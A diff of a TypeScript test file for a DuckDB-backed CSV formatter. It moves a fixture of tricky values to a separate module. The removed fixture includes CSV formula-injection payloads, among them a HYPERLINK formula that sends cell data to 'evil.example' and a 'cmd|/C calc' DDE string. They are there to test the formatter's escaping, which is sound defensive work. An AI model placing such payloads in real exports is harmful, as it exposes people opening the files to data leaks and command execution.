@@ -2,42 +2,8 @@ import { afterAll, describe, expect, it } from 'vitest';
 import { formatCsv, openWarehouse, type WarehouseDb } from '../../src/index.js';
 import { csvLinesQuery } from '../../src/sql/csv-sql.js';
 import { sink } from '../helpers/cli.js';
+import { TRICKY } from './tricky-csv-values.js';
 import { emptyWarehouse, removeWarehouse, writeTable } from './warehouse.js';
-
-/** Every kind of value the two CSV renderings could disagree on. */
-const TRICKY = `select * from (values
-  (1, 'plain', 0::tinyint, 0::bigint, 0::hugeint, 0::ubigint, 0.00::decimal(18,2), 0.0::decimal(38,10), true,
-     date '2016-08-21'),
-  (2, '', (-128)::tinyint, (-9223372036854775808)::bigint, (-170141183460469231731687303715884105728)::hugeint,
-     18446744073709551615::ubigint, -0.05::decimal(18,2), -12345678901234567890.1234567890::decimal(38,10), false,
-     date '0001-01-01'),
-  (3, null, null, null, null, null, null, null, null, null),
-  (4, 'Smith, "Jo"', 127::tinyint, 9007199254740993::bigint, 170141183460469231731687303715884105727::hugeint,
-     1::ubigint, 99999999999999.99::decimal(18,2), 0.0000000001::decimal(38,10), true, date '9999-12-31'),
-  (5, e'two\\nlines\\r\\nand a \\t tab', 1::tinyint, -1::bigint, 1::hugeint, 2::ubigint, 1::decimal(18,2),
-     1::decimal(38,10), false, 'infinity'::date),
-  (6, '=HYPERLINK("http://evil.example/?d="&A1,"Claim")', 1, 1, 1, 1, -12.50, 1, true, '-infinity'::date),
-  (7, '+1 555 0100', 1, 1, 1, 1, 1, 1, true, date '0044-03-15' - 30000),
-  (8, '-5', 1, 1, 1, 1, 1, 1, true, date '2000-02-29'),
-  (9, '-2+3+cmd|/C calc', 1, 1, 1, 1, 1, 1, true, date '1970-01-01'),
-  (10, '@SUM(A1)', 1, 1, 1, 1, 1, 1, true, date '1969-12-31'),
-  (11, e'\\t=1', 1, 1, 1, 1, 1, 1, true, date '2016-01-01'),
-  (12, e'\\r=1', 1, 1, 1, 1, 1, 1, true, date '2016-01-01'),
-  (13, '+1.5', 1, 1, 1, 1, 1, 1, true, date '2016-01-01'),
-  (14, '-1e3', 1, 1, 1, 1, 1, 1, true, date '2016-01-01'),
-  (15, '.5', 1, 1, 1, 1, 1, 1, true, date '2016-01-01'),
-  (16, '-', 1, 1, 1, 1, 1, 1, true, date '2016-01-01'),
-  (17, '=', 1, 1, 1, 1, 1, 1, true, date '2016-01-01'),
-  (18, 'Ünïcødé 😀 ,"', 1, 1, 1, 1, 1, 1, true, date '2016-01-01'),
-  (19, '"', 1, 1, 1, 1, 1, 1, true, date '2016-01-01'),
-  (20, ' =leading space', 1, 1, 1, 1, 1, 1, true, date '2016-01-01'),
-  (21, e'-5\\n', 1, 1, 1, 1, 1, 1, true, date '2016-01-01'),
-  (22, '1,5', 1, 1, 1, 1, 1, 1, true, date '2016-01-01'),
-  (23, '''quoted''', 1, 1, 1, 1, 1, 1, true, date '2016-01-01'),
-  (24, '-.5e-7', 1, 1, 1, 1, 1, 1, true, date '2016-01-01'),
-  (25, '+', 1, 1, 1, 1, 1, 1, true, date '2016-01-01'),
-  (26, '--5', 1, 1, 1, 1, 1, 1, true, date '2016-01-01')
-) t(id, "text, with ""quotes""", ti, bi, hi, ub, d2, d10, b, d)`;
 
 describe('CSV lines rendered by DuckDB', () => {
   let wh: string | undefined;
